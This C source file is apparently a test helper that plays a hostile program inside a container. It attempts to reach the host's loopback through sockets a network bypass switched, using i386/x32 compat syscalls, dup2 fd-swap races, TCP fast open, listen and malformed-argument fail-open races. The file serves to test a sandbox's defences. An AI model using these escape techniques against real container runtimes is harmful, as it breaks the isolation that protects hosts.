/*
 * A hostile program inside a bypassed container (issue 14): it tries to get bytes to
 * listeners on the HOST's 127.0.0.1 through the sockets the bypass switched into the
 * host's network namespace, while it also talks to the test host as a legitimate
 * program would (so the switch is active, and is seen to still work afterwards).
 *
 *   attacker MODE TESTHOST TCP_ECHO UDP_ECHO CLOSED_PORT LOOP_TCP LOOP_UDP [PUBLISHED]
 *
 * MODE is one of
 *   compat   i386 (int $0x80) connect/sendto/sendmsg/listen, socketcall, and x32 calls on switched
 *            sockets (also after disconnecting one with AF_UNSPEC)
 *   swap     a second thread dup2()s a switched host socket onto the fd a call was checked on
 *   nerdctl  sends with an address, TCP fast open and listen on switched sockets (nerdctl's
 *            profile notifies neither sends nor listen)
 *   failopen malformed arguments the agent may fail to read, raced against a valid rewrite
 *
 * One line per attempt: "MODE NAME: ..." with the return values and counts. Whether
 * anything escaped is decided by the listeners, not by this program: a call that returns
 * success may have reached the container's own loopback. The one verdict printed here is
 * HOST-LISTEN: a socket of the host's namespace listening on a port nobody published. Lines "legit ... ok" say that the
 * switched traffic to the test host worked, before and after the attacks.
 *
 * Built statically by the test (gcc -static -O2 -pthread); needs x86_64.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef SO_NETNS_COOKIE
#define SO_NETNS_COOKIE 71
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

/* i386 syscall numbers (arch/x86/entry/syscalls/syscall_32.tbl). */
#define NR32_SOCKETCALL 102
#define NR32_BIND 361
#define NR32_CONNECT 362
#define NR32_LISTEN 363
#define SYS_LISTEN_ 4
#define NR32_SENDTO 369
#define NR32_SENDMSG 370
/* socketcall(2) call numbers (include/uapi/linux/net.h). */
#define SYS_CONNECT_ 3
#define SYS_SENDTO_ 11
#define SYS_SENDMSG_ 16
/* x32: the x86_64 entry with this bit set (include/uapi/asm/unistd.h); connect is 42 there too. */
#define X32_BIT 0x40000000L

static const char *testhost;
static int tcp_echo, udp_echo, closed_port, loop_tcp, loop_udp, published;
static const char *mode;

static struct sockaddr_in sin_of(const char *ip, int port) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

static void report(const char *name, long ret, int err) {
    if (ret < 0) {
        printf("%s %s: ret=%ld errno=%d (%s)\n", mode, name, ret, err, strerror(err));
    } else {
        printf("%s %s: ret=%ld\n", mode, name, ret);
    }
}

/* An i386 call's result: -errno in the return value. */
static void report32(const char *name, long ret) {
    report(name, ret, -ret);
}

/* Reports CALL's result with its own errno (an argument's order of evaluation is unspecified). */
#define TRY(name, call)                                                                                                \
    do {                                                                                                               \
        long ret_ = (call);                                                                                            \
        report(name, ret_, errno);                                                                                     \
    } while (0)

/* A raw i386 syscall from this 64-bit process: int $0x80, arguments truncated to 32 bits. */
static long sys32(long nr, long a, long b, long c, long d, long e, long f) {
    long ret;
    register long sixth __asm__("r12") = f;
    __asm__ volatile("mov %%rbp, %%r13\n\t"
                     "mov %%r12, %%rbp\n\t"
                     "int $0x80\n\t"
                     "mov %%r13, %%rbp"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(sixth)
                     : "memory", "r8", "r9", "r10", "r11", "r13", "cc");
    return ret;
}

static void timeouts(int s, int millis) {
    struct timeval tv = {millis / 1000, (millis % 1000) * 1000};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
}

/* Whether S lives in another network namespace than a socket made here now (SO_NETNS_COOKIE, Linux 5.14). */
static int in_other_netns(int s) {
    uint64_t theirs = 0, ours = 0;
    socklen_t len = sizeof theirs;
    int here = socket(AF_INET, SOCK_DGRAM, 0);
    int known = getsockopt(s, SOL_SOCKET, SO_NETNS_COOKIE, &theirs, &len) == 0
            && getsockopt(here, SOL_SOCKET, SO_NETNS_COOKIE, &ours, &len) == 0;
    close(here);
    return known && theirs != ours;
}

/*
 * After a listen that returned RET on S: a socket listening in the host's namespace on a port
 * nobody published is reachable there by anyone. Marked HOST-LISTEN, which the test refuses.
 */
static void after_listen(const char *name, int s, long ret) {
    struct sockaddr_in at;
    socklen_t len = sizeof at;
    if (ret == 0 && in_other_netns(s) && getsockname(s, (struct sockaddr *)&at, &len) == 0) {
        printf("%s %s: HOST-LISTEN on port %d of the host\n", mode, name, ntohs(at.sin_port));
    }
    close(s);
}

/* A UDP socket connected (so switched) to the test host's echo, checked with one round trip. */
static int udp_switched_to(int port);

static int udp_switched(void) {
    return udp_switched_to(udp_echo);
}

/* The same, connected to PORT of the test host afterwards (where nobody listens: CLOSED_PORT). */
static int udp_switched_to(int port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = sin_of(testhost, udp_echo);
    timeouts(s, 1000);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0) {
        printf("legit udp connect FAILED: %s\n", strerror(errno));
        return s;
    }
    char buf[64];
    int ok = 0;
    for (int i = 0; i < 3 && !ok; i++) {
        ok = send(s, "ping", 4, 0) == 4 && recv(s, buf, sizeof buf, 0) == 4;
    }
    if (!ok) {
        printf("legit udp echo FAILED: %s\n", strerror(errno));
    }
    if (port != udp_echo) {
        to = sin_of(testhost, port);
        connect(s, (struct sockaddr *)&to, sizeof to);
    }
    return s;
}

/* A TCP socket whose switched connect failed (a closed port on the test host): a host socket that can connect again. */
static int tcp_failed(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = sin_of(testhost, closed_port);
    timeouts(s, 2000);
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0 || errno != ECONNREFUSED) {
        /* ENETUNREACH would mean the container's own socket: nothing was switched. */
        printf("legit tcp refused-connect unexpected: %s\n", strerror(errno));
    }
    return s;
}

static void legit(const char *when) {
    int t = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = sin_of(testhost, tcp_echo);
    char buf[64];
    timeouts(t, 3000);
    int ok = connect(t, (struct sockaddr *)&to, sizeof to) == 0 && send(t, "hello", 5, 0) == 5
            && recv(t, buf, sizeof buf, MSG_WAITALL) == 5 && memcmp(buf, "hello", 5) == 0;
    printf("legit tcp %s %s\n", when, ok ? "ok" : strerror(errno));
    close(t);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in ut = sin_of(testhost, udp_echo);
    timeouts(u, 1000);
    /* Up to three datagrams: UDP may lose one (through slirp4netns, say), never three in a row here. */
    ok = 0;
    for (int i = 0; i < 3 && !ok; i++) {
        ok = sendto(u, "hello", 5, 0, (struct sockaddr *)&ut, sizeof ut) == 5 && recv(u, buf, sizeof buf, 0) == 5;
    }
    printf("legit udp %s %s\n", when, ok ? "ok" : strerror(errno));
    close(u);
}

/* Memory below 4 GiB, which i386 calls can name. */
static char *low;

/*
 * One i386 call NR(A, ...) on socket S, reported as NAME; when it connected S, a
 * write(2) follows (native: a connected socket needs no address to send). The first call on a
 * socket whose connect failed only collects the error (ECONNABORTED or the pending
 * ECONNREFUSED, leaving it unconnected): an attacker calls twice.
 */
static void compat_call(const char *name, int s, long nr, long a, long b, long c, long d, long e, long f,
        int connects) {
    char then[96];
    long r = sys32(nr, a, b, c, d, e, f);
    if (r == -ECONNABORTED || r == -ECONNREFUSED) {
        r = sys32(nr, a, b, c, d, e, f);
    }
    report32(name, r);
    if (r == 0 && connects) {
        snprintf(then, sizeof then, "%s-then-write", name);
        TRY(then, write(s, "ESCAPE compat write", 19));
    }
    close(s);
}

/* The direct i386 call NR(S, B, ...). */
static void i386(const char *name, int s, long nr, long b, long c, long d, long e, long f, int connects) {
    compat_call(name, s, nr, s, b, c, d, e, f, connects);
}

/* The same through socketcall(CALL, args), the arguments an array of 32-bit words in low memory. */
static void socketcall(const char *name, int s, int call, uint32_t b, uint32_t c, uint32_t d, uint32_t e, uint32_t f,
        int connects) {
    uint32_t *args = (uint32_t *)(low + 256);
    uint32_t words[6] = {s, b, c, d, e, f};
    memcpy(args, words, sizeof words);
    compat_call(name, s, NR32_SOCKETCALL, call, (long)args, 0, 0, 0, 0, connects);
}

/*
 * A host TCP socket that is unconnected again: one whose switched connect failed stays
 * "connecting" for listen (EINVAL) until a connect resets it, so it is disconnected with
 * AF_UNSPEC by socketcall, or by the i386 connect if that was refused.
 */
static int unconnected_host_tcp(void) {
    struct sockaddr_in *unspec = (struct sockaddr_in *)(low + 1024);
    uint32_t *args = (uint32_t *)(low + 256);
    int s = tcp_failed();
    memset(unspec, 0, sizeof *unspec);
    unspec->sin_family = AF_UNSPEC;
    uint32_t words[3] = {s, (uint32_t)(long)unspec, sizeof *unspec};
    memcpy(args, words, sizeof words);
    long r = sys32(NR32_SOCKETCALL, SYS_CONNECT_, (long)args, 0, 0, 0, 0);
    if (r != 0) {
        r = sys32(NR32_CONNECT, s, (long)unspec, sizeof *unspec, 0, 0, 0);
    }
    report32("reset-failed-tcp", r);
    return s;
}

/* A TCP socket connected (so switched) to the test host's echo, checked with one round trip. */
static int tcp_switched(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = sin_of(testhost, tcp_echo);
    char buf[8];
    timeouts(s, 3000);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0 || send(s, "hello", 5, 0) != 5
            || recv(s, buf, sizeof buf, MSG_WAITALL) != 5) {
        printf("legit tcp echo FAILED: %s\n", strerror(errno));
    }
    return s;
}

/*
 * A switched, connected TCP socket is disconnected (connect with AF_UNSPEC: tcp_disconnect
 * makes it unconnected again) natively, by i386 connect or by socketcall (HOW 0, 1, 2), then
 * connected to the host's loopback by i386 connect or socketcall (AGAIN 1, 2).
 */
static void disconnect_then_connect(const char *name, int how, int again) {
    struct sockaddr_in *unspec = (struct sockaddr_in *)(low + 1024);
    uint32_t *args = (uint32_t *)(low + 256);
    uint32_t tcp = (uint32_t)(long)(low + 64), len = sizeof *unspec;
    char step[96];
    int s = tcp_switched();
    long r;
    memset(unspec, 0, sizeof *unspec);
    unspec->sin_family = AF_UNSPEC;
    if (how == 0) {
        r = connect(s, (struct sockaddr *)unspec, sizeof *unspec) == 0 ? 0 : -errno;
    } else if (how == 1) {
        r = sys32(NR32_CONNECT, s, (long)unspec, len, 0, 0, 0);
    } else {
        uint32_t words[3] = {s, (uint32_t)(long)unspec, len};
        memcpy(args, words, sizeof words);
        r = sys32(NR32_SOCKETCALL, SYS_CONNECT_, (long)args, 0, 0, 0, 0);
    }
    snprintf(step, sizeof step, "%s-disconnect", name);
    report32(step, r);
    if (again == 1) {
        i386(name, s, NR32_CONNECT, tcp, len, 0, 0, 0, 1);
    } else {
        socketcall(name, s, SYS_CONNECT_, tcp, len, 0, 0, 0, 1);
    }
}

static void compat(void) {
    struct sockaddr_in *udp_to = (struct sockaddr_in *)low;
    struct sockaddr_in *tcp_to = (struct sockaddr_in *)(low + 64);
    char *data = low + 128;
    uint32_t *msg = (uint32_t *)(low + 512);
    uint32_t *iov = (uint32_t *)(low + 768);
    *udp_to = sin_of("127.0.0.1", loop_udp);
    *tcp_to = sin_of("127.0.0.1", loop_tcp);
    strcpy(data, "ESCAPE compat");
    uint32_t n = strlen(data), to = (uint32_t)(long)udp_to, tcp = (uint32_t)(long)tcp_to, len = sizeof *udp_to;
    /* struct compat_msghdr: name, namelen, iov, iovlen, control, controllen, flags; compat_iovec: base, len. */
    uint32_t header[7] = {to, len, (uint32_t)(long)iov, 1, 0, 0, 0};
    memcpy(msg, header, sizeof header);
    iov[0] = (uint32_t)(long)data;
    iov[1] = n;

    i386("i386-connect-udp", udp_switched(), NR32_CONNECT, to, len, 0, 0, 0, 1);
    i386("i386-sendto-udp", udp_switched(), NR32_SENDTO, (long)data, n, 0, to, len, 0);
    i386("i386-sendmsg-udp", udp_switched(), NR32_SENDMSG, (long)msg, 0, 0, 0, 0, 0);
    i386("i386-connect-tcp", tcp_failed(), NR32_CONNECT, tcp, len, 0, 0, 0, 1);
    i386("i386-sendto-fastopen-tcp", tcp_failed(), NR32_SENDTO, (long)data, n, MSG_FASTOPEN, tcp, len, 0);
    socketcall("socketcall-connect-udp", udp_switched(), SYS_CONNECT_, to, len, 0, 0, 0, 1);
    socketcall("socketcall-sendto-udp", udp_switched(), SYS_SENDTO_, (long)data, n, 0, to, len, 0);
    socketcall("socketcall-sendmsg-udp", udp_switched(), SYS_SENDMSG_, (long)msg, 0, 0, 0, 0, 0);
    socketcall("socketcall-connect-tcp", tcp_failed(), SYS_CONNECT_, tcp, len, 0, 0, 0, 1);
    socketcall("socketcall-sendto-fastopen-tcp", tcp_failed(), SYS_SENDTO_, (long)data, n, MSG_FASTOPEN, tcp, len, 0);
    int l = unconnected_host_tcp();
    long lr = sys32(NR32_LISTEN, l, 8, 0, 0, 0, 0);
    report32("i386-listen-tcp", lr);
    after_listen("i386-listen-tcp", l, lr);
    l = unconnected_host_tcp();
    uint32_t *args = (uint32_t *)(low + 256);
    uint32_t words[2] = {l, 8};
    memcpy(args, words, sizeof words);
    lr = sys32(NR32_SOCKETCALL, SYS_LISTEN_, (long)args, 0, 0, 0, 0);
    report32("socketcall-listen-tcp", lr);
    after_listen("socketcall-listen-tcp", l, lr);
    disconnect_then_connect("native-disconnect-i386-connect-tcp", 0, 1);
    disconnect_then_connect("native-disconnect-socketcall-connect-tcp", 0, 2);
    disconnect_then_connect("i386-disconnect-i386-connect-tcp", 1, 1);
    disconnect_then_connect("socketcall-disconnect-socketcall-connect-tcp", 2, 2);

    /* x32 exists only on kernels built with CONFIG_X86_X32_ABI: probe with getpid. */
    if (syscall(X32_BIT | SYS_getpid) < 0 && errno == ENOSYS) {
        printf("%s x32: unsupported (x32 getpid: ENOSYS)\n", mode);
        return;
    }
    int s = udp_switched();
    long r = syscall(X32_BIT | SYS_connect, s, udp_to, sizeof *udp_to);
    TRY("x32-connect-udp", r);
    if (r == 0) {
        TRY("x32-connect-udp-then-write", write(s, data, n));
    }
    close(s);
    s = udp_switched();
    TRY("x32-sendto-udp", syscall(X32_BIT | SYS_sendto, s, data, n, 0, udp_to, sizeof *udp_to));
    close(s);
}

/* The race of class 2: thread A calls OP on fd `contested`; thread B swaps what that fd is. */
enum op { OP_CONNECT, OP_SENDTO, OP_SENDMSG };
static const char *op_names[] = {"connect", "sendto", "sendmsg"};

struct race {
    int contested;      /* the fd both threads use */
    int victim;         /* the socket the handler should see (not switched) */
    int host[16];       /* switched host sockets swapped in, in turn */
    int hosts;
    enum op op;
    struct sockaddr_in to;
    volatile int stop;
    long attempts, succeeded, swaps;
};

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void *swapper(void *arg) {
    struct race *r = arg;
    for (int i = 0; !r->stop; i++) {
        dup2(r->host[i % r->hosts], r->contested);
        dup2(r->victim, r->contested);
        r->swaps++;
    }
    return NULL;
}

static void race(const char *victim_name, int victim, int *host, int hosts, enum op op, struct sockaddr_in to,
        double seconds, long max_attempts) {
    struct race r;
    memset(&r, 0, sizeof r);
    r.victim = victim;
    r.contested = dup(victim);
    memcpy(r.host, host, hosts * sizeof *host);
    r.hosts = hosts;
    r.op = op;
    r.to = to;
    pthread_t b;
    pthread_create(&b, NULL, swapper, &r);
    double end = now() + seconds;
    char data[] = "ESCAPE swap";
    while (r.attempts < max_attempts && now() < end) {
        long ret;
        if (op == OP_CONNECT) {
            ret = connect(r.contested, (struct sockaddr *)&r.to, sizeof r.to);
        } else if (op == OP_SENDTO) {
            ret = sendto(r.contested, data, sizeof data, MSG_DONTWAIT, (struct sockaddr *)&r.to, sizeof r.to);
        } else {
            struct iovec v = {data, sizeof data};
            struct msghdr m = {&r.to, sizeof r.to, &v, 1, NULL, 0, 0};
            ret = sendmsg(r.contested, &m, MSG_DONTWAIT);
        }
        r.attempts++;
        if (ret >= 0) {
            r.succeeded++;
            if (op == OP_CONNECT) {
                /* If it was a host socket that connected, it now points at the host's loopback. */
                for (int i = 0; i < hosts; i++) {
                    send(host[i], data, sizeof data, MSG_DONTWAIT | MSG_NOSIGNAL);
                }
            }
        }
    }
    r.stop = 1;
    pthread_join(b, NULL);
    close(r.contested);
    printf("%s %s/%s: attempts=%ld returned-ok=%ld swaps=%ld\n", mode, victim_name, op_names[op], r.attempts,
            r.succeeded, r.swaps);
}

static void swap(void) {
    struct sockaddr_in udp_to = sin_of("127.0.0.1", loop_udp);
    struct sockaddr_in tcp_to = sin_of("127.0.0.1", loop_tcp);
    int udp = udp_switched();
    int victims[3];
    const char *names[3] = {"unix-dgram", "netlink", "raw-icmp"};
    victims[0] = socket(AF_UNIX, SOCK_DGRAM, 0);
    victims[1] = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    victims[2] = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (int v = 0; v < 3; v++) {
        if (victims[v] < 0) {
            printf("%s %s: no such socket here (%s)\n", mode, names[v], strerror(errno));
            continue;
        }
        for (int op = OP_CONNECT; op <= OP_SENDMSG; op++) {
            race(names[v], victims[v], &udp, 1, op, udp_to, 0.7, 100000);
            /* A won connect re-aimed it: back at the test host for the next round. */
            struct sockaddr_in echo = sin_of(testhost, udp_echo);
            connect(udp, (struct sockaddr *)&echo, sizeof echo);
        }
    }
    /* TCP: host sockets whose connect failed, swapped under a connect on a unix stream socket. */
    int failed[16];
    for (int i = 0; i < 16; i++) {
        failed[i] = tcp_failed();
    }
    int unix_stream = socket(AF_UNIX, SOCK_STREAM, 0);
    race("unix-stream-tcp", unix_stream, failed, 16, OP_CONNECT, tcp_to, 1.5, 100000);
    race("unix-stream-tcp", unix_stream, failed, 16, OP_SENDTO, tcp_to, 0.5, 100000);
    for (int i = 0; i < 16; i++) {
        close(failed[i]);
    }
    close(udp);
}

static void nerdctl(void) {
    struct sockaddr_in udp_to = sin_of("127.0.0.1", loop_udp);
    struct sockaddr_in tcp_to = sin_of("127.0.0.1", loop_tcp);
    char data[] = "ESCAPE nerdctl";
    int s;

    s = udp_switched();
    TRY("udp-sendto", sendto(s, data, sizeof data, 0, (struct sockaddr *)&udp_to, sizeof udp_to));
    close(s);

    s = udp_switched();
    struct iovec v = {data, sizeof data};
    struct msghdr m = {&udp_to, sizeof udp_to, &v, 1, NULL, 0, 0};
    TRY("udp-sendmsg", sendmsg(s, &m, 0));
    close(s);

    s = udp_switched();
    struct mmsghdr mm = {m, 0};
    TRY("udp-sendmmsg", sendmmsg(s, &mm, 1, 0));
    close(s);

    s = udp_switched();
    long r = connect(s, (struct sockaddr *)&udp_to, sizeof udp_to);
    TRY("udp-connect-again", r);
    if (r == 0) {
        TRY("udp-connect-again-then-write", write(s, data, sizeof data));
    }
    close(s);

    /* Twice each: the first call on a failed socket only collects its pending error. */
    s = tcp_failed();
    long r2 = sendto(s, data, sizeof data, MSG_FASTOPEN, (struct sockaddr *)&tcp_to, sizeof tcp_to);
    if (r2 < 0 && (errno == ECONNABORTED || errno == ECONNREFUSED)) {
        r2 = sendto(s, data, sizeof data, MSG_FASTOPEN, (struct sockaddr *)&tcp_to, sizeof tcp_to);
    }
    TRY("tcp-fastopen-after-failed-connect", r2);
    close(s);

    s = tcp_failed();
    m.msg_name = &tcp_to;
    r2 = sendmsg(s, &m, MSG_FASTOPEN);
    if (r2 < 0 && (errno == ECONNABORTED || errno == ECONNREFUSED)) {
        r2 = sendmsg(s, &m, MSG_FASTOPEN);
    }
    TRY("tcp-sendmsg-fastopen-after-failed-connect", r2);
    close(s);

    s = unconnected_host_tcp();
    r2 = listen(s, 8);
    TRY("tcp-listen-after-failed-connect", r2);
    after_listen("tcp-listen-after-failed-connect", s, r2);

    /* A switched, connected TCP socket disconnected (AF_UNSPEC), then fast-opened to the host's loopback. */
    s = tcp_switched();
    struct sockaddr_in unspec;
    memset(&unspec, 0, sizeof unspec);
    unspec.sin_family = AF_UNSPEC;
    TRY("tcp-disconnect", connect(s, (struct sockaddr *)&unspec, sizeof unspec));
    TRY("tcp-fastopen-after-disconnect",
            sendto(s, data, sizeof data, MSG_FASTOPEN, (struct sockaddr *)&tcp_to, sizeof tcp_to));
    close(s);

    if (published > 0) {
        s = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        struct sockaddr_in any = sin_of("0.0.0.0", published);
        TRY("published-bind", bind(s, (struct sockaddr *)&any, sizeof any));
        TRY("published-fastopen-instead-of-listen", sendto(s, data, sizeof data, MSG_FASTOPEN, (struct sockaddr *)&tcp_to, sizeof tcp_to));
        close(s);
    }
}

/* Thread B of the unmapped-msghdr race: the page with the msghdr comes and goes. */
struct flicker {
    char *page;
    struct msghdr good;
    volatile int stop;
    long cycles;
};

static void *flicker(void *arg) {
    struct flicker *f = arg;
    while (!f->stop) {
        munmap(f->page, 4096);
        if (mmap(f->page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED) {
            break;
        }
        memcpy(f->page, &f->good, sizeof f->good);
        f->cycles++;
    }
    return NULL;
}

static void failopen(void) {
    struct sockaddr_in udp_to = sin_of("127.0.0.1", loop_udp);
    struct sockaddr_in tcp_to = sin_of("127.0.0.1", loop_tcp);
    char data[] = "ESCAPE failopen";
    struct iovec v = {data, sizeof data};
    int s = udp_switched();
    /* An address far beyond any mapping (and one with the top bit set): the agent's read fails. */
    void *unmapped = (void *)0x7ff000000000UL;
    void *kernel = (void *)0xffff800000000000UL;
    struct msghdr m;

    TRY("sendto-unmapped-address", sendto(s, data, sizeof data, 0, unmapped, 16));
    TRY("sendto-kernel-address", sendto(s, data, sizeof data, 0, kernel, 16));
    TRY("sendto-addrlen-negative", sendto(s, data, sizeof data, 0, (struct sockaddr *)&udp_to, (socklen_t)-1));
    TRY("sendto-addrlen-huge", sendto(s, data, sizeof data, 0, (struct sockaddr *)&udp_to, 1 << 20));
    TRY("sendto-buffer-unmapped", sendto(s, unmapped, 100, 0, (struct sockaddr *)&udp_to, sizeof udp_to));
    TRY("sendto-length-huge", sendto(s, data, -1L, 0, (struct sockaddr *)&udp_to, sizeof udp_to));
    TRY("sendmsg-msghdr-unmapped", sendmsg(s, unmapped, 0));
    TRY("sendmsg-msghdr-kernel", sendmsg(s, kernel, 0));
    m = (struct msghdr){&udp_to, (socklen_t)-1, &v, 1, NULL, 0, 0};
    TRY("sendmsg-namelen-negative", sendmsg(s, &m, 0));
    m = (struct msghdr){&udp_to, sizeof udp_to, &v, (size_t)-1, NULL, 0, 0};
    TRY("sendmsg-iovlen-huge", sendmsg(s, &m, 0));
    m = (struct msghdr){&udp_to, sizeof udp_to, &v, 1025, NULL, 0, 0};
    TRY("sendmsg-iovlen-1025", sendmsg(s, &m, 0));
    m = (struct msghdr){&udp_to, sizeof udp_to, unmapped, 1, NULL, 0, 0};
    TRY("sendmsg-iov-unmapped", sendmsg(s, &m, 0));
    struct iovec bad = {data, (size_t)-1};
    m = (struct msghdr){&udp_to, sizeof udp_to, &bad, 1, NULL, 0, 0};
    TRY("sendmsg-iov-length-negative", sendmsg(s, &m, 0));
    char control[64];
    memset(control, 0xff, sizeof control);
    m = (struct msghdr){&udp_to, sizeof udp_to, &v, 1, control, sizeof control, 0};
    TRY("sendmsg-control-garbage", sendmsg(s, &m, 0));
    m = (struct msghdr){&udp_to, sizeof udp_to, &v, 1, unmapped, 1 << 30, 0};
    TRY("sendmsg-control-huge", sendmsg(s, &m, 0));
    m = (struct msghdr){&udp_to, sizeof udp_to, &v, 1, NULL, 0, 0};
    TRY("sendmmsg-vlen-huge", sendmmsg(s, (struct mmsghdr *)&m, (unsigned)-1, 0));
    struct sockaddr_in6 mapped;
    memset(&mapped, 0, sizeof mapped);
    mapped.sin6_family = AF_INET6;
    mapped.sin6_port = htons(loop_udp);
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &mapped.sin6_addr);
    mapped.sin6_scope_id = (uint32_t)-1;
    TRY("sendto-v6-mapped-scope-garbage", sendto(s, data, sizeof data, 0, (struct sockaddr *)&mapped, sizeof mapped));
    struct sockaddr_in odd = udp_to;
    odd.sin_family = AF_UNSPEC;
    TRY("sendto-af-unspec-loopback", sendto(s, data, sizeof data, 0, (struct sockaddr *)&odd, sizeof odd));
    close(s);

    int t = tcp_failed();
    TRY("connect-unmapped-address", connect(t, unmapped, 16));
    TRY("connect-addrlen-negative", connect(t, (struct sockaddr *)&tcp_to, (socklen_t)-1));
    struct sockaddr_in unspec = tcp_to;
    unspec.sin_family = AF_UNSPEC;
    TRY("connect-af-unspec", connect(t, (struct sockaddr *)&unspec, sizeof unspec));
    TRY("fastopen-af-unspec", sendto(t, data, sizeof data, MSG_FASTOPEN, (struct sockaddr *)&unspec, sizeof unspec));
    close(t);

    /*
     * The race: the msghdr's page is unmapped while the agent reads, mapped when the kernel
     * does. A freshly mapped page is zeros for a moment, a send of nothing to the peer: the
     * peer is a closed port, not the test host's echo, which would drown in empty datagrams.
     */
    s = udp_switched_to(closed_port);
    struct flicker f;
    memset(&f, 0, sizeof f);
    f.page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    f.good = (struct msghdr){&udp_to, sizeof udp_to, &v, 1, NULL, 0, 0};
    memcpy(f.page, &f.good, sizeof f.good);
    pthread_t b;
    pthread_create(&b, NULL, flicker, &f);
    long attempts = 0, ok = 0;
    double end = now() + 1.5;
    while (attempts < 100000 && now() < end) {
        if (sendmsg(s, (struct msghdr *)f.page, MSG_DONTWAIT) >= 0) {
            ok++;
        }
        attempts++;
    }
    f.stop = 1;
    pthread_join(b, NULL);
    printf("%s flicker-msghdr/sendmsg: attempts=%ld returned-ok=%ld cycles=%ld\n", mode, attempts, ok, f.cycles);
    close(s);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    /* A swapped-in TCP socket that failed or closed answers a send with EPIPE: a count, not an end. */
    signal(SIGPIPE, SIG_IGN);
    if (argc < 8) {
        fprintf(stderr, "usage: attacker compat|swap|nerdctl|failopen TESTHOST TCP_ECHO UDP_ECHO CLOSED_PORT "
                        "LOOP_TCP LOOP_UDP [PUBLISHED]\n");
        return 2;
    }
    mode = argv[1];
    testhost = argv[2];
    tcp_echo = atoi(argv[3]);
    udp_echo = atoi(argv[4]);
    closed_port = atoi(argv[5]);
    loop_tcp = atoi(argv[6]);
    loop_udp = atoi(argv[7]);
    published = argc > 8 ? atoi(argv[8]) : 0;
    low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        perror("mmap MAP_32BIT");
        return 2;
    }
    legit("before");
    if (strcmp(mode, "compat") == 0) {
        compat();
    } else if (strcmp(mode, "swap") == 0) {
        swap();
    } else if (strcmp(mode, "nerdctl") == 0) {
        nerdctl();
    } else if (strcmp(mode, "failopen") == 0) {
        failopen();
    } else {
        fprintf(stderr, "attacker: unknown mode %s\n", mode);
        return 2;
    }
    legit("after");
    return 0;
}
